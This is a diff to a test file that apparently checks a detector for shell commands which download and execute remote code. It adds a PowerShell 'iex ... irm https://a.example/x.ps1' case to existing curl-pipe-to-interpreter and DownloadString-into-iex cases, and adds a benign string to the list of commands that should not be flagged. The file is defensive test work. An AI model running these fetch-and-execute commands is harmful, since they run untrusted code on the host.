@@ -11,6 +11,7 @@ test.each([
   ['runs what it downloads', 'curl -s https://a.example/x | python3 -'],
   ['runs what it downloads', 'curl -s https://a.example/x.js | node'],
   ['runs what it downloads', 'irm https://a.example/x.ps1 | iex'],
+  ['runs what it downloads', 'iex "& { $(irm https://a.example/x.ps1) } -Quiet"'],
   ['runs what it downloads', "iex ((New-Object Net.WebClient).DownloadString('https://a.example'))"],
   [
     'runs what it downloads',
@@ -51,6 +52,7 @@ test.each([
   'source ~/.bashrc',
   'cp ~/.bashrc /tmp/backup',
   'crontab -l',
+  'names = "iex ihy ii irm iwr kill"',
   'eval "$(crm shellenv)"',
   'console.log("curl https://a.example | sh")',
   "printf '%s\\n' 'curl https://a.example | sh'",
